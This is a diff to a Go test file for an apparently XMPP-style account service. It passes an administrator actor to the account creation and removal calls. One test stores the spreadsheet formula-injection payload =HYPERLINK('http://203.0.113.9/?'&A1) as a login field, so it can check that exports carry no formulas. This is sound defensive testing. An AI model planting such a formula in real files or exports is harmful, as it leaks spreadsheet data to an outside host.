@@ -38,6 +38,9 @@ var (
 	bob   = events.StoredJID("bob@localhost")
 )
 
+// root is whoever administers accounts.
+const root = events.Actor("cli root@example")
+
 // A service is a log in a server of the test's own, and what writes to it.
 type service struct {
 	t     *testing.T
@@ -163,8 +166,8 @@ func has(t testing.TB, name string, row, want map[string]any) {
 func TestAPersonIsToldWhole(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
-	must(t, s.admin.Create(t.Context(), alice, "secret of alice"))
-	must(t, s.admin.Create(t.Context(), bob, "secret of bob"))
+	must(t, s.admin.Create(t.Context(), root, alice, "secret of alice"))
+	must(t, s.admin.Create(t.Context(), root, bob, "secret of bob"))
 	must(t, s.admin.Befriend(t.Context(), alice, bob))
 	phone := s.login(alice, "phone", "192.0.2.7:5222", "Gajim 1.9, laptop, x")
 	s.do(alice, session.Close{Session: phone, Reason: events.ReasonClient})
@@ -219,9 +222,9 @@ func TestARemovedAccountIsToldByIncarnation(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
 	for _, address := range []string{"192.0.2.1:1", "192.0.2.2:1"} {
-		must(t, s.admin.Create(t.Context(), alice, "pass"))
+		must(t, s.admin.Create(t.Context(), root, alice, "pass"))
 		s.login(alice, "r", address, "")
-		_, err := s.admin.Remove(t.Context(), alice)
+		_, err := s.admin.Remove(t.Context(), root, alice)
 		must(t, err)
 	}
 	all := s.export(alice)
@@ -252,7 +255,7 @@ func TestANameThatNeverWasIsAnError(t *testing.T) {
 func TestNoCellIsAFormula(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
-	must(t, s.admin.Create(t.Context(), alice, "pass"))
+	must(t, s.admin.Create(t.Context(), root, alice, "pass"))
 	const formula = `=HYPERLINK("http://203.0.113.9/?"&A1)`
 	s.login(alice, "r", "192.0.2.7:5222", formula)
 	all := s.export(alice)
@@ -268,7 +271,7 @@ func TestNoCellIsAFormula(t *testing.T) {
 func TestAnExportThatIsCutOffIsNoZip(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
-	must(t, s.admin.Create(t.Context(), alice, "pass"))
+	must(t, s.admin.Create(t.Context(), root, alice, "pass"))
 	ctx, cancel := context.WithCancel(t.Context())
 	known := s.known()
 	known.Writing = func(name string) {
